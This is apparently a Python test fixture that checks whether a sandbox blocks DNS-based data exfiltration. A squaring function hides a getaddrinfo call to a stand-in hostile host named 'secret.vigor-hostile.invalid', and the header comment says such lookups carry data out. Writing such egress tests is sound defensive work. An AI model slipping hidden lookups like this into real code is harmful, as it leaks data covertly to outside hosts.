# expect: exception gaierror | forbidden
# why: a question to a name server carries data out
import socket


def f(x):
    socket.getaddrinfo("secret.vigor-hostile.invalid", 80)
    return x * x
